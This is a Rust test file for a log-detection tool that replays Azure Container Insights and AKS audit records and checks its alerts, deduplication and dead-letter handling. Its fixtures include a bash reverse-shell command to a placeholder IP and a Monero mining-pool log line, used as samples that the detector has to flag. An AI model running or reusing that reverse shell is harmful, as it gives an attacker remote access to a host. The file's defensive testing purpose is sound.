//! Container Insights input through the real pipeline: data-export envelopes (alone, and
//! mixed with AKS audit records in one envelope), plain JSON lines with and without `Type`,
//! repeats, and records that cannot be rows.

use std::io::Write;

use serde_json::json;

use crate::common::*;

fn log_record(time: &str, message: &str) -> serde_json::Value {
    json!({
        "Type": "ContainerLogV2", "TimeGenerated": time, "Computer": "aks-nodepool1-1-vmss000001",
        "ContainerId": "3f1c0e8b", "ContainerName": "storefront", "PodName": "storefront-5f7d8c9b6-x7k2p",
        "PodNamespace": "shop", "LogSource": "stdout", "LogMessage": message,
        "_ResourceId": "/subscriptions/0/resourcegroups/rg/providers/microsoft.containerservice/managedclusters/aks-test"
    })
}

#[test]
fn container_insights_records_are_decoded_from_every_shape_and_detected_on() {
    let dir = tempfile::tempdir().unwrap();
    let miner = log_record("2026-11-01T08:00:05.0000000Z", " * POOL #1      stratum+tcp://pool.supportxmr.com:3333 algo rx/0");
    let quiet = log_record("2026-11-01T08:00:06.0000000Z", "GET /api/cart 200 12ms");
    // Diagnostic settings and data export sharing one envelope (one topic may carry both).
    let audit_record = json!({
        "time": "2026-11-01T08:00:00.0000000Z", "resourceId": "/SUBSCRIPTIONS/0/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-TEST",
        "category": "kube-audit", "properties": {"log": privileged_pod_event("a0000000-0000-4000-8000-000000000001", "2026-11-01T08:00:00.000001Z").to_string()}
    });
    let mut reverse_shell = log_record("2026-11-01T08:00:07.0000000Z", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1");
    reverse_shell.as_object_mut().unwrap().remove("Type"); // a plain line without Type: its columns say what it is
    let node = json!({"TimeGenerated": "2026-11-01T08:00:08Z", "Computer": "n1", "Status": "Ready", "KubeletVersion": "v1.30.4"});
    let lines = [
        json!({"records": [audit_record, miner, quiet]}).to_string(),
        // Data export redelivers: the same record again is dropped.
        json!({"records": [miner]}).to_string(),
        reverse_shell.to_string(),
        node.to_string(),
        json!({"records": [{"Type": "Heartbeat", "TimeGenerated": "2026-11-01T08:00:09Z", "Computer": "n1"}]}).to_string(),
        json!({"Type": "KubeEvents", "Reason": "BackOff"}).to_string(),
        json!({"Type": "KubePodInventory", "TimeGenerated": "not a time", "Name": "p"}).to_string(),
    ];
    let mut f = std::fs::File::create(dir.path().join("in.jsonl")).unwrap();
    for l in &lines {
        writeln!(f, "{l}").unwrap();
    }
    drop(f);
    let out = run(&["replay", "in.jsonl", "--no-progress", "--dead-letters", "dl.jsonl"], dir.path());
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success(), "{stderr}");
    let alerts = stdout_alerts(&out);
    let fired = |rule: &str| alerts.iter().filter(|a| a["rule_id"] == rule).count();
    assert_eq!(fired("CN-AUDIT-001"), 1, "the audit record of the mixed envelope: {stderr}");
    assert_eq!(fired("CN-CI-001"), 2, "the miner (once, despite the repeat) and the reverse shell: {alerts:#?}");
    let patterns: Vec<&str> =
        alerts.iter().filter(|a| a["rule_id"] == "CN-CI-001").map(|a| a["fields"]["pattern"].as_str().unwrap()).collect();
    assert!(patterns.iter().any(|p| p.contains("stratum")) && patterns.iter().any(|p| p.contains("/dev/")), "{patterns:?}");
    let ci = alerts.iter().find(|a| a["rule_id"] == "CN-CI-001").unwrap();
    assert_eq!(ci["cluster"], json!("/subscriptions/0/resourcegroups/rg/providers/microsoft.containerservice/managedclusters/aks-test"));
    assert_eq!(ci["audit_ids"], json!([]), "Container Insights rows have no audit id");
    // Decoded: four log records (the repeat included); the repeat is then dropped.
    assert!(stderr.contains("container_log 4") && stderr.contains("kube_audit 1") && stderr.contains("kube_node_inventory 1"), "{stderr}");
    assert!(stderr.contains("duplicate events:   1"), "{stderr}");
    let dead = read_jsonl(&dir.path().join("dl.jsonl"));
    let reasons: Vec<&str> = dead.iter().map(|d| d["reason"].as_str().unwrap()).collect();
    assert_eq!(reasons, ["unknown_table", "missing_field", "invalid_timestamp"], "{dead:#?}");
    assert!(dead[0]["detail"].as_str().unwrap().contains("Heartbeat"), "{}", dead[0]);
    assert_eq!(dead[0]["position"], json!("line 5 record 1"));
}

#[test]
fn every_container_insights_table_has_its_published_schema() {
    let dir = tempfile::tempdir().unwrap();
    for (table, column) in [
        ("container_log", "LogMessage"),
        ("kube_events", "KubeEventType"),
        ("kube_pod_inventory", "ContainerStatusReason"),
        ("kube_node_inventory", "LastTransitionTimeReady"),
        ("insights_metrics", "Val"),
        ("container_inventory", "ImageTag"),
    ] {
        let out = run(&["schema", table], dir.path());
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success() && text.contains("TimeGenerated") && text.contains(column), "{table}: {text}");
    }
}
